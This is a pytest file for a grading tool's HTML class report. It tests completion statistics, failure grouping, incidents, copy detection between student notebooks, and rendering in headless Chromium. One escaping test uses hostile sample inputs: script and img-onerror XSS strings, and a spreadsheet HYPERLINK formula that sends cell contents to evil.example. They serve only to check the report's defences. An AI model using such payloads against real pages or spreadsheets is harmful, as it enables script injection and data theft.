"""The class report (grader/reports/class_report.py) and the similarity search behind it.

Most tests build SubmissionResults directly (no grading); the similarity tests write small notebooks from
the kit's own; one test opens the page in headless Chromium; one slow test reads the session batch's report.
"""
import html
import itertools
import re
import shutil
import subprocess

import nbformat
import pytest

from grader import reports
from grader.core import ExerciseResult, Incident, Note, Status, SubmissionResult
from grader.exercises.base import FunctionExercise
from grader.exercises.registry import exercises_for
from grader.i18n import Msg
from grader.reports import class_report, similarity
from helpers import ASSIGNMENTS, NB01, NOTEBOOKS, SOLUTIONS, definitions_of
from class_data import make_class
from similar import build_similar

EXPECTED = Msg("se esperaba {want} y se obtuvo {got}", "expected {want}, got {got}")
SIGN = Msg("olvidaste el signo menos", "you forgot the minus sign")


def exercise(status, message=Msg("bien", "fine"), reason: Msg | None = None, hidden=False, eid="1.1", points=1):
    reason = reason or Msg("", "")
    return ExerciseResult(eid, Msg("Escalón", "Step"), points, points if status == Status.CORRECT else 0, status,
                          message, reason.key if reason.es else "", hidden, reason.key_en if reason.es else "")


def submission(student, exercises, notes=(), usage=None, assignment="01_a", path=""):
    return SubmissionResult(student, assignment, path, list(notes), exercises, "h", f"{student}__{assignment}",
                            usage or {})


def section(page: str, key: str) -> str:
    """The HTML of one section of the page, from its heading to the next one."""
    return page.split(f"<h2 id='{key}'>")[1].split("<h2 id=")[0]


def row_of(page: str, first_cell: str) -> list[str]:
    """The cells of the table row that starts with ``first_cell``."""
    row = re.search(r"<tr><td>" + re.escape(first_cell) + r"</td>(.*?)</tr>", page, re.S)
    assert row, f"no row {first_cell!r}"
    return re.findall(r"<td[^>]*>(.*?)</td>", row.group(1), re.S)


# ---------------------------------------------------------------- shares, completion, reasons

CLASS = [
    submission("ana", [exercise(Status.CORRECT), exercise(Status.CORRECT, eid="1.2")]),
    submission("ben", [exercise(Status.WRONG, EXPECTED.format(want=1, got=0), EXPECTED),
                       exercise(Status.WRONG, SIGN, SIGN, eid="1.2")]),
    submission("cy", [exercise(Status.WRONG, EXPECTED.format(want=2, got=5), EXPECTED),
                      exercise(Status.NOT_ATTEMPTED, eid="1.2")]),
    submission("dan", [exercise(Status.WRONG, EXPECTED.format(want=3, got=3.5), EXPECTED, hidden=True),
                       exercise(Status.NOT_ATTEMPTED, eid="1.2")]),
    submission("eve", [exercise(Status.NOT_ATTEMPTED), exercise(Status.NOT_ATTEMPTED, eid="1.2")]),
    submission("fay", [exercise(Status.NOT_GRADED), exercise(Status.NOT_GRADED, eid="1.2")],
               [Note(Incident.INVALID_NOTEBOOK, Msg("roto", "broken"))]),
]


def test_shares_per_exercise_and_completion_per_assignment():
    page = class_report.page(CLASS, "es")
    # 1.1: 1 correct, 3 wrong, 1 not attempted, 1 not graded, of 6
    assert row_of(section(page, "exercises"), "1.1 Escalón") == ["17 %", "50 %", "17 %", "17 %"]
    # completion: ana, ben, cy, dan attempted something; eve did nothing, fay could not be graded
    assert row_of(section(page, "scores"), "01_a")[-1] == "67 %"
    assert [class_report.completed(result) for result in CLASS] == [True, True, True, True, False, False]
    assert "al menos un ejercicio intentado" in page


def test_failures_are_grouped_by_template_with_counts_and_public_apart_from_hidden():
    found = [e for result in CLASS for e in result.exercises if e.id == "1.1"]
    public = class_report.failure_reasons(found, hidden=False)
    assert [(template.key, count) for template, count, _ in public] == [("se esperaba {want} y se obtuvo {got}", 2)]
    hidden = class_report.failure_reasons(found, hidden=True)
    assert [(template.key, count) for template, count, _ in hidden] == [("se esperaba {want} y se obtuvo {got}", 1)]
    page = section(class_report.page(CLASS, "en"), "exercises")
    public_table, hidden_table = page.split("Failures in the public tests")[1].split("Failures in hidden tests only")
    assert row_of(public_table, "expected …, got …")[:2] == ["2", "33 %"]
    assert row_of(hidden_table, "expected …, got …")[:2] == ["1", "17 %"]
    assert "se esperaba" not in page and "you forgot the minus sign" in page


def test_a_verdict_without_a_template_is_grouped_by_its_message():
    timeouts = [exercise(Status.TIMEOUT, Msg("superó 60 s", "over 60 s")) for _ in range(3)]
    assert [(t.key, count) for t, count, _ in class_report.failure_reasons(timeouts, False)] == [("superó 60 s", 3)]


def test_incidents_name_the_students_affected():
    results = CLASS + [submission("gus", [exercise(Status.CORRECT)], [Note(Incident.KERNEL_DIED, Msg("murió", "died")),
                                                                       Note(Incident.TIMEOUT, Msg("lento", "slow"))]),
                       submission("hal", [exercise(Status.WRONG)], [Note(Incident.KERNEL_DIED, Msg("murió", "died"))])]
    page = section(class_report.page(results, "en"), "incidents")
    died = row_of(page, "<code>kernel-died</code><br>graded; the kernel died while running")
    assert died[:2] == ["2", "gus (01_a), hal (01_a)"] and died[2] == "died"
    assert row_of(page, "<code>timeout</code><br>graded; some time limits were exceeded")[:2] == ["1", "gus (01_a)"]
    assert row_of(page, "<code>invalid-notebook</code><br>the file is not a valid notebook")[:2] == ["1", "fay (01_a)"]
    assert page.index("invalid-notebook") < page.index("kernel-died") < page.index("timeout")   # most serious first
    assert "No submission had incidents" in class_report.page(CLASS[:1], "en")


def test_time_and_memory_give_median_percentile_and_maximum_with_its_submission():
    results = [submission(name, [exercise(Status.CORRECT)], usage={"kernel_cpu_seconds": cpu, "kernel_peak_mb": mb})
               for name, cpu, mb in [("ana", 10, 500), ("ben", 20, 900), ("cy", 30, 700), ("dan", 200, 650)]]
    page = section(class_report.page(results, "en"), "usage")
    assert row_of(page, "01_a")[:6] == ["notebook CPU (s)", "4", "25.0", "149", "200", "dan"]
    assert "notebook peak memory (MB)</td><td class='n'>4</td><td class='n'>675</td>" in page
    assert "data:image/png;base64," in page


HOSTILE_NAME = "<script>alert('name')</script>"
FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"ver nota")'
HOSTILE_CODE = "# </pre><script>alert('code')</script><img src=x onerror=alert(1)>\n"


def test_everything_a_student_shaped_is_escaped(tmp_path):
    paths = build_similar(tmp_path / "entregas")
    for path in (paths["original"], paths["copier"]):   # a copied pair, so that their code is shown
        notebook = nbformat.read(path, as_version=4)
        cell = next(c for c in notebook.cells if c.get("metadata", {}).get("grader", {}).get("exercise") == "1.1")
        cell.source = HOSTILE_CODE + cell.source
        nbformat.write(notebook, path)
    weird = "<b>$\\undefinedmacro{x}$</b>"   # an assignment named by a file: mathtext would break the plot
    lie = Msg("<img src=x onerror=alert(2)>", "<img src=x onerror=alert(2)>")
    results = [
        submission(HOSTILE_NAME, [exercise(Status.WRONG, lie, lie)], [Note(Incident.TIMEOUT, lie)],
                   {"kernel_cpu_seconds": 5.0, "kernel_peak_mb": 5.0}, path=str(paths["original"]), assignment=NB01),
        submission(FORMULA_NAME, [exercise(Status.WRONG, lie, lie, hidden=True)], [Note(Incident.KERNEL_DIED, lie)],
                   {"kernel_cpu_seconds": 9.0, "kernel_peak_mb": 9.0}, path=str(paths["copier"]), assignment=NB01),
        submission("x" * 5000, [exercise(Status.CORRECT)], assignment=weird, usage={"kernel_cpu_seconds": 1.0,
                                                                                      "kernel_peak_mb": 1.0}),
    ]
    for lang in ("es", "en"):
        page = class_report.page(results, lang)
        assert "<script" not in page.lower() and "<img src=x" not in page and "<b>$" not in page
        assert "&lt;script&gt;alert(&#x27;name&#x27;)&lt;/script&gt;" in section(page, "incidents")
        assert "&lt;/pre&gt;&lt;script&gt;alert(" in section(page, "similar")
        assert html_text(FORMULA_NAME) in section(page, "similar") and html_text(FORMULA_NAME) in section(page,
                                                                                                         "incidents")
        assert "&lt;img src=x onerror=alert(2)&gt;" in section(page, "exercises")
        assert "x" * 5000 not in page   # names are truncated, as in the feedback pages


def html_text(text: str) -> str:
    return html.escape(text)


def test_the_page_is_self_contained():
    page = class_report.page(CLASS, "es")
    assert not re.search(r"""(?:src|href)\s*=\s*["'](?!data:image/png;base64,|#)""", page)
    assert "<script" not in page and "<link" not in page and "@import" not in page and 'lang="es"' in page


def test_written_with_every_batch(tmp_path):
    assert "class_report" in reports.ALWAYS
    reports.export_all(CLASS, tmp_path, "en")
    assert "<h1>Class report</h1>" in (tmp_path / "class_report.html").read_text(encoding="utf-8")
    reports.export_all([], tmp_path / "empty", "es")
    assert "No hay entregas calificadas." in (tmp_path / "empty" / "class_report.html").read_text(encoding="utf-8")


# ---------------------------------------------------------------- similar submissions

def notebook_result(student: str, path, assignment: str = NB01) -> SubmissionResult:
    return submission(student, [], path=str(path), assignment=assignment)


def test_the_planted_copy_is_flagged_and_no_honest_pair_is(tmp_path):
    paths = build_similar(tmp_path)
    for student, path in paths.items():   # every version is a correct answer, not a broken one
        namespace = definitions_of(path)
        wrong = [e.id for e in exercises_for(NB01) if isinstance(e, FunctionExercise) and not e.check(namespace).correct]
        assert wrong == [], (student, wrong)
    results = [notebook_result(student, path) for student, path in paths.items()]
    pairs = similarity.similar_pairs(results)
    assert [(pair.first.student, pair.second.student) for pair in pairs] == [("original", "copier")]
    assert pairs[0].similarity > 0.9 and pairs[0].shared >= similarity.MIN_SHARED
    codes = {student: similarity.exercise_code(nbformat.read(path, as_version=4)) for student, path in paths.items()}
    stub = similarity.stub_code(NB01)
    honest = [similarity.compare(codes[a], codes[b], stub) for a, b in itertools.combinations(codes, 2)
              if {a, b} != {"original", "copier"}]
    assert max(pair.similarity for pair in honest) < similarity.THRESHOLD / 2   # a wide margin, not a near miss


def test_the_solutions_do_not_trip_the_threshold_against_their_stubs():
    for assignment in ASSIGNMENTS:
        solution = similarity.exercise_code(nbformat.read(SOLUTIONS / f"{assignment}.ipynb", as_version=4))
        stub = similarity.stub_code(assignment)
        assert solution.strip() and stub.strip()
        pair = similarity.compare(solution, stub, stub)
        assert pair is None or pair.similarity < similarity.THRESHOLD, assignment
        results = [notebook_result("solution", SOLUTIONS / f"{assignment}.ipynb", assignment),
                   notebook_result("untouched", NOTEBOOKS / f"{assignment}.ipynb", assignment)]
        assert similarity.similar_pairs(results) == [], assignment
        # while a copy of the solution would be flagged: it has enough code of its own
        copy = similarity.compare(solution, solution, stub)
        assert copy.similarity > similarity.THRESHOLD and copy.shared >= similarity.MIN_SHARED, assignment


def test_code_everyone_shares_is_not_a_flag(tmp_path):
    path = build_similar(tmp_path)["original"]
    crowd = [notebook_result(f"student_{n:02d}", path) for n in range(similarity.COMMON + 1)]
    assert len(similarity.similar_pairs(crowd[:-1])) == 45   # 10 identical submissions: every pair
    assert similarity.similar_pairs(crowd) == []   # in more than COMMON submissions: common knowledge


def test_a_link_is_never_followed_when_reading_code(tmp_path):
    paths = build_similar(tmp_path / "entregas")
    link = tmp_path / "linked.ipynb"
    link.symlink_to(paths["original"])
    results = [notebook_result("original", paths["original"]), notebook_result("linker", link)]
    assert similarity.submitted_code(results[1]) == "" and similarity.similar_pairs(results) == []


# ---------------------------------------------------------------- in a real browser

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")


def render(page, screenshot) -> str:
    """Open ``page`` in headless Chromium with no network; returns the console messages it logged."""
    completed = subprocess.run(
        [CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--enable-logging=stderr", "--v=0",
         "--host-resolver-rules=MAP * ~NOTFOUND", f"--user-data-dir={screenshot.parent / 'chromium-profile'}",
         "--window-size=1280,2400", f"--screenshot={screenshot}", page.as_uri()],
        capture_output=True, text=True, timeout=120, stdin=subprocess.DEVNULL)
    assert completed.returncode == 0, completed.stderr[-2000:]
    return "\n".join(line for line in completed.stderr.splitlines() if ":CONSOLE" in line)


@pytest.mark.slow   # starts a browser
@pytest.mark.skipif(CHROMIUM is None, reason="chromium is not installed (Debian: apt-get install chromium)")
def test_the_report_renders_in_chromium_without_console_errors(tmp_path):
    results = make_class(12)
    for result, (student, path) in zip(results, build_similar(tmp_path / "entregas").items()):
        result.student, result.path = student, str(path)
    results[5].student = HOSTILE_NAME
    reports.export_all(results, tmp_path / "out", "es")
    screenshot = tmp_path / "class_report.png"
    assert render(tmp_path / "out" / "class_report.html", screenshot) == ""
    assert screenshot.stat().st_size > 10_000
    # the check can fail: a page whose script errs logs it
    broken = tmp_path / "broken.html"
    broken.write_text("<!DOCTYPE html><p>x</p><script>undefinedFunction()</script>")
    assert "undefinedFunction" in render(broken, tmp_path / "broken.png")


# ---------------------------------------------------------------- the session's batch

@pytest.mark.slow
def test_the_batch_writes_a_class_report_with_its_incidents(graded_batch):
    page = (graded_batch.outdir / "class_report.html").read_text(encoding="utf-8")
    incidents = section(page, "incidents")
    for student, (status, _) in graded_batch.expected.items():
        if status != "graded":
            row = re.search(r"<code>" + re.escape(status) + r"</code>.*?</tr>", incidents, re.S)
            assert row and f"{student} (" in row.group(0), (student, status)
    assert "<th>notebooks</th>" not in section(page, "similar")   # the untouched student notebooks: no own code


# ---------------------------------------------------------------- predictions

def test_predictions_are_read_from_the_source_and_shown_per_question(capsys):
    import json
    from grader import notebook as student_calls
    from helpers import read, replace_in_cell
    # A small class: each student writes a letter into the student notebook's predict cells (or none).
    class_choices = {"ana": ("b", "c"), "ben": ("b", "a"), "cy": ("a", None), "dan": (None, None)}
    results = []
    for student, (for_1_11, for_1_12) in class_choices.items():
        notebook = read(NOTEBOOKS)
        for question, choice in (("1.9", for_1_11), ("1.12", for_1_12)):
            if choice:
                replace_in_cell(notebook, f"predict-{question.replace('.', '-')}", f'predict("{question}")',
                                f'predict("{question}", "{choice}")')
        result = submission(student, [exercise(Status.CORRECT)])
        result.predictions = student_calls.predictions_in(notebook)
        results.append(SubmissionResult.from_json(json.loads(json.dumps(result.to_json()))))
    assert [r.predictions for r in results] == [{"1.9": "b", "1.12": "c"}, {"1.9": "b", "1.12": "a"},
                                                {"1.9": "a"}, {}]
    assert all(r.score == 1 for r in results)  # the grade never depends on a prediction

    part = html.unescape(section(class_report.page(results, "es"), "predictions"))
    assert "67 % predijo «no: los pesos apenas se moverán» (3 de 4 entregas registraron una predicción)" in part
    assert "50 % predijo «kernels a 1 y sesgos a 0»" in part or "50 % predijo «al azar»" in part
    assert "5.3" not in part  # nobody predicted it
    english = html.unescape(section(class_report.page(results, "en"), "predictions"))
    assert "67 % predicted \"no: the weights will hardly move\"" in english


def test_predict_reveals_the_explanation_only_once_a_prediction_is_recorded(capsys):
    from grader.notebook import QUESTIONS, predict, predictions_in
    explanation = QUESTIONS["1.12"].explanation.es
    predict("1.12")
    asked = capsys.readouterr().out
    assert "¿Cuál de los tres arranques aprenderá XOR?" in asked and explanation not in asked
    predict("1.12", "z")
    assert "no es una de las opciones" in capsys.readouterr().out
    predict("1.12", "C")
    recorded = capsys.readouterr().out
    assert "Predicción registrada para la pregunta 1.12: c) al azar" in recorded and explanation in recorded
    # Only literal calls in the source count; the solutions and the student notebooks record none.
    source = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(
        'choice = "a"\npredict("1.9", choice)\npredict("9.9", "a")\n# predict("1.12", "a")\npredict("5.3", "a")')])
    assert predictions_in(source) == {"5.3": "a"}
    for folder in (SOLUTIONS, NOTEBOOKS):
        for assignment in ASSIGNMENTS:
            assert student_predictions(folder, assignment) == {}


def student_predictions(folder, assignment):
    from grader.notebook import predictions_in
    return predictions_in(nbformat.read(folder / f"{assignment}.ipynb", as_version=4))
